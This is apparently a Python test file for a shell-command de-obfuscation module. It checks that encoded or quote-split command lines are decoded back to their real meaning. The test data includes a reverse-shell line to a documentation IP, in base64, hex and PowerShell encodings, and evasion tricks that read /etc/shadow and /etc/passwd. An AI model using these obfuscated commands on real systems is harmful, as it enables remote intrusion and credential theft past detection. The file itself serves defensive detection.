"""Other readings of a command line."""

from __future__ import annotations

import base64

import pytest
from hypothesis import given
from hypothesis import strategies as st

from periderm.engines.runtime.decoding import MOST_CHARACTERS, MOST_TEXTS, decoded, unquoted

HIDDEN = "bash -i >& /dev/tcp/203.0.113.5/4444 0>&1"


@pytest.mark.parametrize(
    ("written", "meant"),
    [
        ("cat$IFS/etc/shadow", "cat /etc/shadow"),
        ("cat${IFS}/etc/shadow", "cat /etc/shadow"),
        ("c''at /etc/sh\"\"adow", "cat /etc/shadow"),
        ("w'h'oami", "whoami"),
        ("/bin/c\\at /etc/pass\\wd", "/bin/cat /etc/passwd"),
        ("cat /etc/pa$@sswd", "cat /etc/passwd"),
        ("{cat,/etc/shadow}", "cat /etc/shadow"),
        ("$'\\x63\\x61\\x74' /etc/shadow", "$'cat' /etc/shadow"),
        ("cat$IFS$9/etc/shadow", "cat /etc/shadow"),
    ],
)
def test_words_are_put_together_again(written: str, meant: str) -> None:
    """What a shell would see, an analyst sees."""
    assert unquoted(written) == meant
    assert meant in decoded(written)


def test_base64_hex_and_both() -> None:
    """Encoded once, twice, in hexadecimal, or inside another command."""
    once = base64.b64encode(HIDDEN.encode()).decode()
    twice = base64.b64encode(f"echo {once} | base64 -d | sh".encode()).decode()
    assert HIDDEN in decoded(f"sh -c echo {once} | base64 -d | sh")
    assert HIDDEN in decoded(f"sh -c echo {twice} | base64 -d | sh")
    assert HIDDEN in decoded(f"sh -c echo {HIDDEN.encode().hex()} | xxd -r -p | sh")
    assert HIDDEN in decoded(f"python3 -c exec('{once.rstrip('=')}')")
    wide = base64.b64encode(HIDDEN.encode("utf-16-le")).decode()
    assert HIDDEN in decoded(f"pwsh -enc {wide}")


@pytest.mark.parametrize(
    "line",
    [
        "nginx -g daemon off;",
        "git checkout 3f786850e387550fdab836ed7e6dc881de23001b",
        "gcc -O2 -o out main.c -I/usr/include/x86_64-linux-gnu",
        "java -jar /srv/application-1.0.0-SNAPSHOT.jar --spring.config=/etc/app/application.properties",
    ],
)
def test_plain_lines_have_no_other_reading(line: str) -> None:
    """Digests, paths and options are not taken for hidden text."""
    assert decoded(line) == ()


@given(st.text(max_size=200) | st.text(alphabet="ABCabc019+/=-_$'\"\\ {},x", max_size=3000))
def test_any_text_is_bounded(text: str) -> None:
    """Whatever is given: few readings, none endless, the same each time."""
    found = decoded(text)
    assert len(found) <= MOST_TEXTS
    assert all(len(reading) <= MOST_CHARACTERS * 2 for reading in found)
    assert decoded(text) == found
